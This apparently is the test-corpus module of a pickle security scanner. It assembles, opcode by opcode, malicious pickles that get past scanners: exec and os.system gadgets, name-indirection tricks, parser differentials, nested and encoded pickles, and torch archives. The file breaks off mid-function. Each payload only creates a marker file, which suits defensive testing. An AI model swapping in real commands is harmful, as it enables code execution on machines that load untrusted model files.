"""Malicious pickle corpus: deterministic builders for every bypass family of THREATS.md.

Every builder takes the path of a marker file and returns the bytes of a pickle (or of a stream that
holds one) whose payload, when a real loader reads it, only creates that marker file. Samples are
assembled opcode by opcode with `Asm` where the exact byte layout matters, and built with
`pickle.dumps`, dill, cloudpickle or torch where that is what an attacker would do.

`SAMPLES` is the catalogue: name → `PickleSample` (family, the advisory or write-up it models, how a
real loader reads it). Tests hold the scanner to each sample and prove in a subprocess that the
payload really runs.
"""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A global reference (`module.name`) to be emitted as GLOBAL or STACK_GLOBAL."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """`fn(*args)` emitted as fn, args tuple, REDUCE."""

    fn: Any
    args: tuple[Any, ...] = ()


def call(fn: Any, *args: Any) -> Call:
    return Call(fn, args)


def _proto0_text(s: str) -> bytes:
    """The escaping CPython applies to UNICODE ('V') arguments at protocol 0."""
    s = s.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
    s = s.replace("\r", "\\u000d").replace("\x1a", "\\u001a")
    return s.encode("raw-unicode-escape")


class Asm:
    """Appends pickle opcodes one at a time; every method returns `self` so calls chain."""

    def __init__(self, proto: int | None = None) -> None:
        self.out = bytearray()
        self.proto_level = 0 if proto is None else proto
        if proto is not None and proto >= 2:
            self.proto(proto)

    def bytes(self) -> bytes:
        return bytes(self.out)

    def raw(self, data: bytes) -> Asm:
        self.out += data
        return self

    # -- framing and control
    def proto(self, n: int) -> Asm:
        self.proto_level = n
        return self.raw(b"\x80" + bytes([n]))

    def frame(self, n: int) -> Asm:
        return self.raw(b"\x95" + struct.pack("<Q", n))

    def stop(self) -> Asm:
        return self.raw(b".")

    def mark(self) -> Asm:
        return self.raw(b"(")

    def pop(self) -> Asm:
        return self.raw(b"0")

    def dup(self) -> Asm:
        return self.raw(b"2")

    # -- memo
    def put(self, i: int) -> Asm:
        if self.proto_level == 0:
            return self.raw(b"p%d\n" % i)
        return self.raw(b"q" + bytes([i]) if i < 256 else b"r" + struct.pack("<I", i))

    def long_binput(self, i: int) -> Asm:
        return self.raw(b"r" + struct.pack("<I", i))

    def get(self, i: int) -> Asm:
        if self.proto_level == 0:
            return self.raw(b"g%d\n" % i)
        return self.raw(b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i))

    def memoize(self) -> Asm:
        return self.raw(b"\x94")

    # -- constants
    def none(self) -> Asm:
        return self.raw(b"N")

    def int_(self, n: int) -> Asm:
        if self.proto_level == 0 or not -(2**31) <= n < 2**31:
            return self.raw(b"I%d\n" % n)
        if 0 <= n < 256:
            return self.raw(b"K" + bytes([n]))
        return self.raw(b"J" + struct.pack("<i", n))

    def str_(self, s: str) -> Asm:
        data = s.encode("utf-8", "surrogatepass")
        if self.proto_level == 0:
            return self.raw(b"V" + _proto0_text(s) + b"\n")
        if self.proto_level >= 4 and len(data) < 256:
            return self.raw(b"\x8c" + bytes([len(data)]) + data)
        return self.raw(b"X" + struct.pack("<I", len(data)) + data)

    def binunicode(self, s: str) -> Asm:
        data = s.encode()
        return self.raw(b"X" + struct.pack("<I", len(data)) + data)

    def bytes_(self, b: bytes) -> Asm:
        if self.proto_level < 3:
            raise ValueError("bytes need protocol 3 or later")
        if len(b) < 256:
            return self.raw(b"C" + bytes([len(b)]) + b)
        return self.raw(b"B" + struct.pack("<I", len(b)) + b)

    # -- globals and calls
    def global_(self, module: str, name: str) -> Asm:
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self) -> Asm:
        return self.raw(b"\x93")

    def inst(self, module: str, name: str) -> Asm:
        return self.raw(b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    def obj(self) -> Asm:
        return self.raw(b"o")

    def reduce(self) -> Asm:
        return self.raw(b"R")

    def build(self) -> Asm:
        return self.raw(b"b")

    def newobj(self) -> Asm:
        return self.raw(b"\x81")

    def newobj_ex(self) -> Asm:
        return self.raw(b"\x92")

    def ext1(self, code: int) -> Asm:
        return self.raw(b"\x82" + bytes([code]))

    # -- containers
    def tuple_(self, n: int | None = None) -> Asm:
        """Close a MARK-ed tuple (n None) or build one of n items with TUPLE1/2/3 (protocol >= 2)."""
        if n is None:
            return self.raw(b"t")
        return self.raw({0: b")", 1: b"\x85", 2: b"\x86", 3: b"\x87"}[n])

    def empty_dict(self) -> Asm:
        return self.raw(b"}")

    def setitem(self) -> Asm:
        return self.raw(b"s")

    def setitems(self) -> Asm:
        return self.raw(b"u")

    # -- expression trees
    def emit(self, value: Any) -> Asm:
        """Emit a constant, a `G` reference or a `Call` tree, the way the current protocol allows."""
        if isinstance(value, G):
            if self.proto_level >= 4:
                return self.str_(value.module).str_(value.name).stack_global()
            return self.global_(value.module, value.name)
        if isinstance(value, Call):
            self.emit(value.fn)
            self._emit_tuple(value.args)
            return self.reduce()
        if value is None:
            return self.none()
        if isinstance(value, bool):
            if self.proto_level >= 2:
                return self.raw(b"\x88" if value else b"\x89")
            return self.raw(b"I01\n" if value else b"I00\n")
        if isinstance(value, int):
            return self.int_(value)
        if isinstance(value, str):
            return self.str_(value)
        if isinstance(value, (bytes, bytearray)):
            return self.bytes_(bytes(value))
        if isinstance(value, tuple):
            return self._emit_tuple(value)
        if isinstance(value, list):
            if self.proto_level == 0:
                self.mark()
                for item in value:
                    self.emit(item)
                return self.raw(b"l")
            self.raw(b"]").mark()
            for item in value:
                self.emit(item)
            return self.raw(b"e")
        if isinstance(value, dict):
            if self.proto_level == 0:
                self.mark()
                for k, v in value.items():
                    self.emit(k).emit(v)
                return self.raw(b"d")
            self.empty_dict().mark()
            for k, v in value.items():
                self.emit(k).emit(v)
            return self.setitems()
        raise TypeError(f"cannot emit {value!r}")

    def _emit_tuple(self, items: tuple[Any, ...]) -> Asm:
        if self.proto_level >= 2 and len(items) <= 3:
            for item in items:
                self.emit(item)
            return self.tuple_(len(items))
        self.mark()
        for item in items:
            self.emit(item)
        return self.tuple_()


def program(expr: Any, proto: int = 2) -> bytes:
    """A complete pickle that evaluates `expr` (PROTO when >= 2, the expression, STOP)."""
    return Asm(proto).emit(expr).stop().bytes()


class _Reduce:
    """An object whose pickle is `fn(*args)`: how attackers write payloads with pickle.dumps."""

    def __init__(self, fn: Any, args: tuple[Any, ...]) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args


# ---------------------------------------------------------------------------------------------
# Payload helpers (harmless: they only create the marker file)
# ---------------------------------------------------------------------------------------------


def touch_code(marker: str) -> str:
    """Python source that creates the marker file."""
    return f"open({marker!r}, 'w').write('x')"


def touch_shell(marker: str) -> str:
    return f"touch '{marker}'"


def benign_state() -> bytes:
    """What a harmless first pickle looks like: a small dict of lists and floats."""
    return pickle.dumps({"weights": [0.5, 1.5, 2.5], "epoch": 3, "name": "tiny"}, protocol=2)


def os_system(marker: str, proto: int = 2) -> bytes:
    return program(call(G("os", "system"), touch_shell(marker)), proto)


# ---------------------------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------------------------

FAMILY_GADGET = 1
FAMILY_INDIRECTION = 2
FAMILY_PARSER = 3
FAMILY_LOADING_PATH = 4
FAMILY_OBJECT = 5


@dataclass(frozen=True)
class PickleSample:
    """One malicious sample: how to build it and how a real program would load it.

    `loader` is "pickle" (one `pickle.load`), "pickle-all" (`pickle.load` until EOF, as multi-pickle
    formats do) or "torch" (`torch.load(weights_only=False)`). `loader_setup` is Python the loading
    process runs first (e.g. a copyreg registration the sample relies on). `live` is False for
    samples whose callable really runs but leaves no marker (network callables, scan-only variants).
    """

    name: str
    family: int
    reference: str
    build: Callable[[str], bytes]
    loader: str = "pickle"
    loader_setup: str = ""
    live: bool = True
    tags: tuple[str, ...] = field(default_factory=tuple)


SAMPLES: dict[str, PickleSample] = {}


def _sample(
    name: str,
    family: int,
    reference: str,
    *,
    loader: str = "pickle",
    loader_setup: str = "",
    live: bool = True,
) -> Callable[[Callable[[str], bytes]], Callable[[str], bytes]]:
    def register(build: Callable[[str], bytes]) -> Callable[[str], bytes]:
        if name in SAMPLES:
            raise ValueError(f"duplicate sample {name}")
        SAMPLES[name] = PickleSample(name, family, reference, build, loader, loader_setup, live)
        return build

    return register


# -- Family 1: gadget gaps. One GLOBAL + REDUCE each; the callable is what differs. ------------
#
# (sample name, module, name, args builder, reference, live)
GadgetArgs = Callable[[str], tuple[Any, ...]]

_GADGETS: list[tuple[str, str, str, GadgetArgs, str, bool]] = [
    # code execution
    ("gadget_builtins_exec", "builtins", "exec", lambda m: (touch_code(m),), "classic exec sink", True),
    ("gadget_builtins_eval", "builtins", "eval", lambda m: (touch_code(m),), "classic eval sink", True),
    ("gadget_timeit_timeit", "timeit", "timeit", lambda m: ("pass", touch_code(m)),
     "picklescan GHSA-v7x6-rv5q-mhwc (timeit.timeit)", True),
    ("gadget_cprofile_runctx", "cProfile", "runctx", lambda m: (touch_code(m), {}, {}),
     "picklescan GHSA-9w88-8rmg-7g2p (cProfile.runctx)", True),
    ("gadget_runpy_run_code", "runpy", "_run_code", lambda m: (touch_code(m), {}),
     "runpy._run_code exec sink (picklescan 2025 gadget series)", True),
    ("gadget_numpy_testing_runstring", "numpy.testing._private.utils", "runstring",
     lambda m: (touch_code(m), {}), "numpy.testing runstring exec sink (picklescan gadget series)", True),
    # process spawners
    ("gadget_os_system", "os", "system", lambda m: (touch_shell(m),), "classic os.system", True),
    ("gadget_posix_system", "posix", "system", lambda m: (touch_shell(m),),
     "os.system as pickle really writes it on Linux", True),
    ("gadget_os_popen", "os", "popen", lambda m: (touch_shell(m),), "os.popen shell", True),
    ("gadget_os_spawnlp", "os", "spawnlp", lambda m: (0, "touch", "touch", m), "os.spawn* family", True),
    ("gadget_os_execvp", "os", "execvp", lambda m: ("touch", ["touch", m]), "os.exec* family", True),
    ("gadget_subprocess_call", "subprocess", "call", lambda m: (["touch", m],), "subprocess.call", True),
    ("gadget_subprocess_check_call", "subprocess", "check_call", lambda m: (["touch", m],),
     "subprocess.check_call", True),
    ("gadget_subprocess_run", "subprocess", "run", lambda m: (["touch", m],), "subprocess.run", True),
    ("gadget_subprocess_check_output", "subprocess", "check_output", lambda m: (["touch", m],),
     "subprocess.check_output", True),
    ("gadget_subprocess_getoutput", "subprocess", "getoutput", lambda m: (touch_shell(m),),
     "subprocess.getoutput (shell)", True),
    ("gadget_subprocess_getstatusoutput", "subprocess", "getstatusoutput", lambda m: (touch_shell(m),),
     "subprocess.getstatusoutput (shell)", True),
    ("gadget_subprocess_popen", "subprocess", "Popen", lambda m: (["touch", m],), "subprocess.Popen", True),
    ("gadget_pydoc_pipepager", "pydoc", "pipepager", lambda m: ("", touch_shell(m)),
     "picklescan pydoc gadget (pipepager runs a shell command)", True),
    ("gadget_uuid_get_command_stdout", "uuid", "_get_command_stdout", lambda m: ("touch", m),
     "picklescan gadget uuid._get_command_stdout", True),
    ("gadget_osx_support_read_output", "_osx_support", "_read_output", lambda m: (touch_shell(m),),
     "picklescan gadget _osx_support._read_output (os.system inside)", True),
    ("gadget_distutils_spawn", "distutils.spawn", "spawn", lambda m: (["touch", m],),
     "picklescan gadget distutils.spawn.spawn", True),
    ("gadget_pip_main", "pip", "main", lambda m: (["--log", m, "check"],),
     "CVE-2025-1716 (picklescan bypass via pip.main)", True),
    ("gadget_ensurepip_run_pip", "ensurepip", "_run_pip", lambda m: (["--log", m, "check"],),
     "picklescan GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip)", True),
    ("gadget_venv_create", "venv", "create", lambda m: (m, False, False, True),
     "venv.create (creates a tree, may run ensurepip)", True),
    # file system
    ("gadget_builtins_open", "builtins", "open", lambda m: (m, "w"), "open(path, 'w')", True),
    ("gadget_io_open", "io", "open", lambda m: (m, "w"), "io.open", True),
    ("gadget_io_fileio", "_io", "FileIO", lambda m: (m, "w"), "picklescan _io gadget (_io.FileIO)", True),
    ("gadget_codecs_open", "codecs", "open", lambda m: (m, "w"), "codecs.open", True),
    ("gadget_os_open", "os", "open", lambda m: (m, 65), "os.open(O_WRONLY|O_CREAT)", True),
    ("gadget_os_mkdir", "os", "mkdir", lambda m: (m,), "os.mkdir", True),
    ("gadget_os_makedirs", "os", "makedirs", lambda m: (m,), "os.makedirs", True),
    ("gadget_shutil_copyfile", "shutil", "copyfile", lambda m: ("/dev/null", m),
     "picklescan shutil gadget", True),
    # network: the callable runs (and fails on a closed loopback port); no marker
    ("gadget_socket_create_connection", "socket", "create_connection", lambda m: (("127.0.0.1", 9), 1),
     "socket connect", False),
    ("gadget_socket_getaddrinfo", "socket", "getaddrinfo", lambda m: ("exfil.invalid", 80),
     "DNS lookup as exfiltration channel", False),
    ("gadget_urllib_urlopen", "urllib.request", "urlopen", lambda m: ("http://127.0.0.1:9/",),
     "urllib.request.urlopen", False),
    ("gadget_smtplib_smtp", "smtplib", "SMTP", lambda m: ("127.0.0.1", 9, None, 1),
     "picklescan smtplib gadget (connects in the constructor)", False),
    ("gadget_ftplib_ftp", "ftplib", "FTP", lambda m: ("127.0.0.1", "", "", "", 1),
     "picklescan ftplib gadget (connects in the constructor)", False),
    ("gadget_webbrowser_open", "webbrowser", "open", lambda m: ("http://127.0.0.1:9/",),
     "picklescan webbrowser gadget", False),
    ("gadget_ctypes_cdll", "ctypes", "CDLL", lambda m: ("libc.so.6",), "native library load (ctypes)", False),
]


def _gadget_builder(module: str, name: str, args: GadgetArgs) -> Callable[[str], bytes]:
    def build(marker: str) -> bytes:
        return program(Call(G(module, name), args(marker)), proto=2)

    return build


GADGETS: dict[str, tuple[str, str]] = {}
for _name, _module, _attr, _args, _ref, _live in _GADGETS:
    GADGETS[_name] = (_module, _attr)
    _sample(_name, FAMILY_GADGET, _ref, live=_live)(_gadget_builder(_module, _attr, _args))


def _dotted_method(module: str, cls: str, method: str, ctor_args: tuple[Any, ...], args: GadgetArgs
                   ) -> Callable[[str], bytes]:
    """`module.Class.method(Class(*ctor_args), *args)` as advisories write it: a protocol 4 dotted name."""

    def build(marker: str) -> bytes:
        instance = Call(G(module, cls), ctor_args)
        return program(Call(G(module, f"{cls}.{method}"), (instance, *args(marker))), proto=4)

    return build


_sample("gadget_code_interactive_runsource", FAMILY_GADGET,
        "picklescan 2025 advisory series: code.InteractiveInterpreter.runsource")(
    _dotted_method("code", "InteractiveInterpreter", "runsource", (), lambda m: (touch_code(m),)))
_sample("gadget_profile_runctx", FAMILY_GADGET, "picklescan GHSA-6vqj-c2q5-j97w (profile.Profile.runctx)")(
    _dotted_method("profile", "Profile", "runctx", (), lambda m: (touch_code(m), {}, {})))
_sample("gadget_trace_runctx", FAMILY_GADGET, "picklescan GHSA-g344-hcph-8vgg (trace.Trace.runctx)")(
    _dotted_method("trace", "Trace", "runctx", (0, 0), lambda m: (touch_code(m), {}, {})))


@_sample("gadget_pathlib_touch", FAMILY_GADGET, "pathlib.Path.touch on an attacker path (dotted name)")
def _pathlib_touch(marker: str) -> bytes:
    path = Call(G("pathlib", "PosixPath"), (marker,))
    return program(Call(G("pathlib", "Path.touch"), (path,)), proto=4)


# -- Family 2: name indirection -----------------------------------------------------------------


@_sample("indirect_stack_global_memo", FAMILY_INDIRECTION,
         "picklescan issue #22 (memo-fetched STACK_GLOBAL operands); fickling GHSA-r7v6-mfhq-g3m2 style")
def _stack_global_memo(marker: str) -> bytes:
    a = Asm(4)
    a.str_("os").put(0).pop().str_("system").put(1).pop()
    a.get(0).get(1).stack_global()
    a.str_(touch_shell(marker)).tuple_(1).reduce().stop()
    return a.bytes()


@_sample("indirect_memo_overwrite", FAMILY_INDIRECTION,
         "memo slot overwritten after a benign-looking PUT (scanners that key the memo by first write)")
def _memo_overwrite(marker: str) -> bytes:
    a = Asm(4)
    a.str_("collections").put(0).pop().str_("OrderedDict").put(1).pop()
    a.str_("os").put(0).pop().str_("system").put(1).pop()
    a.get(0).get(1).stack_global()
    a.str_(touch_shell(marker)).tuple_(1).reduce().stop()
    return a.bytes()


@_sample("indirect_dotted_module_traversal", FAMILY_INDIRECTION,
         "protocol 4 dotted name reaching os through an imported module (torch.serialization.os)")
def _dotted_traversal(marker: str) -> bytes:
    return program(call(G("torch.serialization", "os.system"), touch_shell(marker)), proto=4)


@_sample("indirect_dotted_os_path", FAMILY_INDIRECTION,
         "protocol 4 dotted name: module os.path, name os.system (posixpath imports os)")
def _dotted_os_path(marker: str) -> bytes:
    return program(call(G("os.path", "os.system"), touch_shell(marker)), proto=4)


@_sample("indirect_main_traversal", FAMILY_INDIRECTION,
         "protocol 4 traversal out of a user module: __main__.os.system (the loading script imported os)",
         loader_setup="import os")
def _main_traversal(marker: str) -> bytes:
    return program(call(G("__main__", "os.system"), touch_shell(marker)), proto=4)


@_sample("indirect_compat_builtin_eval", FAMILY_INDIRECTION,
         "Python 2 alias __builtin__ -> builtins (_compat_pickle, protocol < 3)")
def _compat_builtin(marker: str) -> bytes:
    return program(call(G("__builtin__", "eval"), touch_code(marker)), proto=2)


@_sample("indirect_compat_commands_getoutput", FAMILY_INDIRECTION,
         "Python 2 alias commands -> subprocess (_compat_pickle), protocol 0 text pickle")
def _compat_commands(marker: str) -> bytes:
    return program(call(G("commands", "getoutput"), touch_shell(marker)), proto=0)


@_sample("indirect_getattr_import", FAMILY_INDIRECTION, "getattr(__import__('os'), 'system')")
def _getattr_import(marker: str) -> bytes:
    fn = call(G("builtins", "getattr"), call(G("builtins", "__import__"), "os"), "system")
    return program(call(fn, touch_shell(marker)), proto=2)


@_sample("indirect_importlib_import_module", FAMILY_INDIRECTION,
         "picklescan issue #66: importlib.import_module + getattr")
def _importlib(marker: str) -> bytes:
    fn = call(G("builtins", "getattr"), call(G("importlib", "import_module"), "os"), "system")
    return program(call(fn, touch_shell(marker)), proto=4)


@_sample("indirect_pkgutil_resolve_name", FAMILY_INDIRECTION,
         "picklescan GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name universal bypass)")
def _pkgutil(marker: str) -> bytes:
    return program(call(call(G("pkgutil", "resolve_name"), "os:system"), touch_shell(marker)), proto=4)


@_sample("indirect_pydoc_locate", FAMILY_INDIRECTION, "pydoc.locate as a name resolver")
def _pydoc_locate(marker: str) -> bytes:
    return program(call(call(G("pydoc", "locate"), "os.system"), touch_shell(marker)), proto=2)


@_sample("indirect_attrgetter", FAMILY_INDIRECTION, "operator.attrgetter on an imported module")
def _attrgetter(marker: str) -> bytes:
    getter = call(G("operator", "attrgetter"), "system")
    fn = call(getter, call(G("builtins", "__import__"), "os"))
    return program(call(fn, touch_shell(marker)), proto=2)


@_sample("indirect_methodcaller", FAMILY_INDIRECTION, "operator.methodcaller('system', cmd)(os)")
def _methodcaller(marker: str) -> bytes:
    caller = call(G("operator", "methodcaller"), "system", touch_shell(marker))
    return program(call(caller, call(G("importlib", "import_module"), "os")), proto=2)


@_sample("indirect_functools_partial", FAMILY_INDIRECTION, "functools.partial(os.system, cmd)()")
def _partial(marker: str) -> bytes:
    return program(call(call(G("functools", "partial"), G("os", "system"), touch_shell(marker))), proto=2)


@_sample("indirect_computed_stack_global", FAMILY_INDIRECTION,
         "STACK_GLOBAL operands computed at load time (codecs.decode rot13)")
def _computed_stack_global(marker: str) -> bytes:
    a = Asm(4)
    a.emit(call(G("codecs", "decode"), "bf", "rot13"))
    a.emit(call(G("codecs", "decode"), "flfgrz", "rot13"))
    a.stack_global().str_(touch_shell(marker)).tuple_(1).reduce().stop()
    return a.bytes()


@_sample("indirect_ctypes_libc_system", FAMILY_INDIRECTION, "getattr(ctypes.CDLL(None), 'system')(cmd)")
def _ctypes_system(marker: str) -> bytes:
    fn = call(G("builtins", "getattr"), call(G("ctypes", "CDLL"), None), "system")
    return program(call(fn, touch_shell(marker).encode()), proto=4)


# -- Family 3: parser differentials -------------------------------------------------------------


def _payload_prefix(marker: str, proto: int = 2) -> Asm:
    """A stream that has already run os.system (REDUCE done, result on the stack)."""
    return Asm(proto).emit(call(G("os", "system"), touch_shell(marker)))


@_sample("parser_truncated_no_stop", FAMILY_PARSER,
         "ReversingLabs nullifAI (2025): payload first, stream broken afterwards")
def _truncated(marker: str) -> bytes:
    a = _payload_prefix(marker)
    a.pop().raw(b"X" + struct.pack("<I", 1000) + b"weights")  # declared 1000 bytes, 7 present
    return a.bytes()


@_sample("parser_invalid_opcode", FAMILY_PARSER, "nullifAI variant: payload then an invalid opcode byte")
def _invalid_opcode(marker: str) -> bytes:
    return _payload_prefix(marker).pop().raw(b"\xff\xfe garbage").bytes()


@_sample("parser_second_pickle", FAMILY_PARSER,
         "several pickles in one stream (legacy torch / multi-pickle formats); benign first",
         loader="pickle-all")
def _second_pickle(marker: str) -> bytes:
    return benign_state() + os_system(marker)


@_sample("parser_frame_too_short", FAMILY_PARSER,
         "FRAME declaring fewer bytes than follow; the C unpickler ignores frame boundaries")
def _frame_short(marker: str) -> bytes:
    a = Asm(4).frame(2)
    a.emit(call(G("os", "system"), touch_shell(marker))).stop()
    return a.bytes()


@_sample("parser_memo_get_unset", FAMILY_PARSER, "payload, then a GET of a memo index never PUT")
def _memo_get_unset(marker: str) -> bytes:
    return _payload_prefix(marker).pop().get(200).stop().bytes()


@_sample("parser_huge_long_binput", FAMILY_PARSER,
         "payload, then LONG_BINPUT 0xfffffff0 (a scanner sizing its memo by index runs out of memory)")
def _huge_binput(marker: str) -> bytes:
    return _payload_prefix(marker).long_binput(0xFFFFFFF0).stop().bytes()


@_sample("parser_huge_declared_length", FAMILY_PARSER,
         "payload, then BINBYTES8 declaring 2**62 bytes (a scanner that gives up on a size limit drops the "
         "payload it already saw)")
def _huge_declared_length(marker: str) -> bytes:
    return _payload_prefix(marker, proto=4).pop().raw(b"\x8e" + struct.pack("<Q", 2**62) + b"tail").bytes()


# -- Family 4: loading-path gaps (pickles inside pickles, functions by value, torch) ---------------


def _nested(marker: str, decode: Callable[[bytes], Any]) -> bytes:
    inner = os_system(marker)
    return program(call(G("pickle", "loads"), decode(inner)), proto=4)


@_sample("nested_raw_pickle_loads", FAMILY_LOADING_PATH, "modelscan issue #267 (nested pickle.loads)")
def _nested_raw(marker: str) -> bytes:
    return _nested(marker, lambda inner: inner)


@_sample("nested_base64", FAMILY_LOADING_PATH, "pickle.loads(base64.b64decode(...))")
def _nested_b64(marker: str) -> bytes:
    return _nested(marker, lambda inner: call(G("base64", "b64decode"), base64.b64encode(inner).decode()))


@_sample("nested_hex_fromhex", FAMILY_LOADING_PATH, "pickle.loads(bytes.fromhex(...)), dotted builtins name")
def _nested_fromhex(marker: str) -> bytes:
    return _nested(marker, lambda inner: call(G("builtins", "bytes.fromhex"), inner.hex()))


@_sample("nested_unhexlify", FAMILY_LOADING_PATH, "pickle.loads(binascii.unhexlify(...))")
def _nested_unhexlify(marker: str) -> bytes:
    return _nested(marker, lambda inner: call(G("binascii", "unhexlify"), binascii.hexlify(inner)))


@_sample("nested_zlib", FAMILY_LOADING_PATH, "pickle.loads(zlib.decompress(...))")
def _nested_zlib(marker: str) -> bytes:
    return _nested(marker, lambda inner: call(G("zlib", "decompress"), zlib.compress(inner, 9)))


@_sample("nested_gzip", FAMILY_LOADING_PATH, "pickle.loads(gzip.decompress(...))")
def _nested_gzip(marker: str) -> bytes:
    return _nested(marker, lambda inner: call(G("gzip", "decompress"), gzip.compress(inner, 9, mtime=0)))


@_sample("nested_bz2", FAMILY_LOADING_PATH, "pickle.loads(bz2.decompress(...))")
def _nested_bz2(marker: str) -> bytes:
    return _nested(marker, lambda inner: call(G("bz2", "decompress"), bz2.compress(inner)))


@_sample("nested_lzma", FAMILY_LOADING_PATH, "pickle.loads(lzma.decompress(...))")
def _nested_lzma(marker: str) -> bytes:
    return _nested(marker, lambda inner: call(G("lzma", "decompress"), lzma.compress(inner)))


@_sample("nested_c_pickle_loads", FAMILY_LOADING_PATH, "_pickle.loads: the C module under another name")
def _nested_cpickle(marker: str) -> bytes:
    return program(call(G("_pickle", "loads"), os_system(marker)), proto=4)


@_sample("nested_lib2to3_grammar_loads", FAMILY_LOADING_PATH,
         "picklescan GHSA-f54q-57x4-jg88 (lib2to3.pgen2.grammar.Grammar.loads)")
def _nested_grammar(marker: str) -> bytes:
    grammar = call(G("lib2to3.pgen2.grammar", "Grammar"))
    return program(call(G("lib2to3.pgen2.grammar", "Grammar.loads"), grammar, os_system(marker)), proto=4)


def system_code(marker: str) -> str:
    """Python source for a code object: the names it reaches (os, system) are what a scanner sees."""
    return f"import os\nos.system({touch_shell(marker)!r})"


def _code_bytes(marker: str) -> bytes:
    return marshal.dumps(compile(system_code(marker), "<payload>", "exec"))


@_sample("nested_marshal_function", FAMILY_LOADING_PATH,
         "types.FunctionType(marshal.loads(code), {})() (picklescan PR #74 marshal bypass)")
def _marshal_function(marker: str) -> bytes:
    code = call(G("marshal", "loads"), _code_bytes(marker))
    fn = call(G("types", "FunctionType"), code, {})
    return program(call(fn), proto=4)


def _by_value_function(marker: str, module_name: str) -> Any:
    namespace: dict[str, Any] = {"__name__": module_name}
    body = system_code(marker).replace("\n", "\n    ")
    exec(f"def restore_weights():\n    {body}\n", namespace)  # noqa: S102 - builds a sample
    return namespace["restore_weights"]


@_sample("dill_function_by_value", FAMILY_LOADING_PATH, "dill stores functions by value (bytecode)")
def _dill_function(marker: str) -> bytes:
    import dill

    fn = _by_value_function(marker, "__main__")
    return bytes(dill.dumps(_Reduce(fn, ()), protocol=4))


@_sample("cloudpickle_function_by_value", FAMILY_LOADING_PATH, "cloudpickle stores functions by value")
def _cloudpickle_function(marker: str) -> bytes:
    import cloudpickle

    fn = _by_value_function(marker, "not_importable_payload_module")
    return bytes(cloudpickle.dumps(_Reduce(fn, ()), protocol=4))


def torch_zip(marker: str) -> bytes:
    """A torch.save archive whose data.pkl runs os.system when torch.load(weights_only=False) reads it."""
    import os

    import torch

    buf = io.BytesIO()
    torch.save({"state": _Reduce(os.system, (touch_shell(marker),))}, buf)
    return buf.getvalue()


@_sample("torch_zip_payload", FAMILY_LOADING_PATH,
         "CVE-2025-1889 / CVE-2025-10155 (extension-based scanners): torch zip with a payload",
         loader="torch")
def _torch_zip(marker: str) -> bytes:
    return torch_zip(marker)


@_sample("nested_torch_load", FAMILY_LOADING_PATH,
         "torch.load(io.BytesIO(zip), None, pickle) inside a pickle; a pickle_module turns weights_only off")
def _nested_torch(marker: str) -> bytes:
    buffer = call(G("io", "BytesIO"), torch_zip(marker))
    pickle_module = call(G("builtins", "__import__"), "pickle")
    return program(call(G("torch", "load"), buffer, None, pickle_module), proto=4)


# -- Family 5: object-level tricks ---------------------------------------------------------------


@_sample("object_setstate_planted", FAMILY_OBJECT,
         "BUILD plants __setstate__ = os.system, a second BUILD calls it (fickling/JFrog write-ups)")
def _setstate_planted(marker: str) -> bytes:
    a = Asm(4)
    a.emit(call(G("collections", "OrderedDict")))
    a.empty_dict().str_("__setstate__").emit(G("os", "system")).setitem().build()
    a.str_(touch_shell(marker)).build().stop()
    return a.bytes()


@_sample("object_module_mutation", FAMILY_OBJECT,
         "BUILD on a module: collections.OrderedDict := os.system, then a benign-looking call")
def _module_mutation(marker: str) -> bytes:
    a = Asm(4)
    a.emit(call(G("builtins", "__import__"), "collections"))
    a.empty_dict().str_("OrderedDict").emit(G("os", "system")).setitem().build().pop()
    a.emit(call(G("collections", "OrderedDict"), touch_shell(marker))).stop()
    return a.bytes()


@_sample("object_newobj_function", FAMILY_OBJECT,
         "NEWOBJ of types.FunctionType over marshal'd code, then a call")
def _newobj_function(marker: str) -> bytes:
    a = Asm(4)
    a.emit(G("types", "FunctionType"))
    a.emit(call(G("marshal", "loads"), _code_bytes(marker))).empty_dict().tuple_(2).newobj()
    a.tuple_(0).reduce().stop()
    return a.bytes()


@_sample("object_inst_os_system", FAMILY_OBJECT, "protocol 0 INST opcode calling os.system")
def _inst(marker: str) -> bytes:
    a = Asm(0)
    a.mark().str_(touch_shell(marker)).inst("os", "system").stop()
    return a.bytes()


@_sample("object_obj_os_system", FAMILY_OBJECT, "protocol 1 OBJ opcode calling os.system")
def _obj(marker: str) -> bytes:
    a = Asm(1)
    a.mark().global_("os", "system").str_(touch_shell(marker)).obj().stop()
    return a.bytes()


EXT_CODE = 0xF0
EXT_SETUP = f"import copyreg; copyreg.add_extension('os', 'system', {EXT_CODE})"


@_sample("object_ext1_registered", FAMILY_OBJECT,
         "EXT1 code registered by the loading process (copyreg.add_extension('os', 'system', 240))",
         loader_setup=EXT_SETUP)
def _ext1(marker: str) -> bytes:
    a = Asm(2)
    a.ext1(EXT_CODE).str_(touch_shell(marker)).tuple_(1).reduce().stop()
    return a.bytes()


@_sample("object_reconstructor_popen", FAMILY_OBJECT,
         "copyreg._reconstructor(cls, base, state) runs base.__init__: Popen(['touch', m])")
def _reconstructor(marker: str) -> bytes:
    popen = G("subprocess", "Popen")
    return program(call(G("copyreg", "_reconstructor"), popen, popen, ["touch", marker]), proto=2)


@_sample("object_newobj_ex_function", FAMILY_OBJECT, "NEWOBJ_EX of types.FunctionType, then a call")
def _newobj_ex_function(marker: str) -> bytes:
    a = Asm(4)
    a.emit(G("types", "FunctionType"))
    a.emit(call(G("marshal", "loads"), _code_bytes(marker))).empty_dict().tuple_(2).empty_dict().newobj_ex()
    a.tuple_(0).reduce().stop()
    return a.bytes()


@_sample("object_atexit_register", FAMILY_OBJECT,
         "atexit.register(os.system, cmd): nothing runs until the loading process exits")
def _atexit(marker: str) -> bytes:
